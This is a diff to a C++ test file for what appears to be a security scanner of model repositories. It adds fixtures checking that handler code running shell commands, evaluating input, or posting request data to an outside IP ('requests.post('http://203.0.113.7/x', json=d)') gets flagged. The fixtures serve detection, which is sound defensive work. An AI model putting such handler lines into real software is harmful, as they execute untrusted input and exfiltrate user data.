@@ -121,8 +121,8 @@ TEST(Repository, ServersStartPrograms) {
   const auto found = [](const std::string& call) {
     return at(folder({{"config.json", "{}"},
                       {"handler.py",
-                       "import os, subprocess\nclass EndpointHandler:\n    def __call__(self, d):\n        " + call +
-                           "\n"}}),
+                       "import os, requests, subprocess\nclass EndpointHandler:\n    def __call__(self, d):\n        " +
+                           call + "\n"}}),
               "REP003")
         .size();
   };
@@ -131,6 +131,10 @@ TEST(Repository, ServersStartPrograms) {
   EXPECT_EQ(found("subprocess.run(d, shell=True)"), 1U);
   EXPECT_EQ(found("subprocess.getoutput(d)"), 1U);
   EXPECT_EQ(found("eval(d)"), 1U);
+  EXPECT_EQ(found("subprocess.run(['bash', '-c', d])"), 1U);
+  EXPECT_EQ(found("requests.post('http://203.0.113.7/x', json=d)"), 1U);
+  EXPECT_EQ(found("requests.get('http://127.0.0.1:8080/x')"), 0U);
+  EXPECT_EQ(found("requests.get('https://example.org/x')"), 0U);
 }
 
 TEST(Repository, ModulesThatConfigurationsName) {
@@ -142,6 +146,8 @@ TEST(Repository, ModulesThatConfigurationsName) {
   EXPECT_TRUE(loaded("config.yaml", "_target_: own.code.Model\n", "own/code.py"));
   EXPECT_TRUE(loaded("model_index.json", R"({"_class_name": "P", "unet": ["own", "U"]})", "unet/own.py"));
   EXPECT_TRUE(loaded("MLmodel", "flavors:\n  python_function:\n    loader_module: own\n    code: src\n", "src/own.py"));
+  EXPECT_TRUE(loaded("MLmodel", "flavors:\n  python_function:\n    code: code\n", "code/own.py"));
+  EXPECT_TRUE(loaded("MAR-INF/MANIFEST.json", R"({"model": {"handler": "own:handle"}})", "own.py"));
   EXPECT_TRUE(loaded("MAR-INF/MANIFEST.json", R"({"model": {"handler": "own.py:handle"}})", "own.py"));
   EXPECT_TRUE(loaded("pyproject.toml", "[build-system]\nbuild-backend = \"own\"\nbackend-path = [\n  \"tools\",\n]\n",
                      "tools/own.py"));
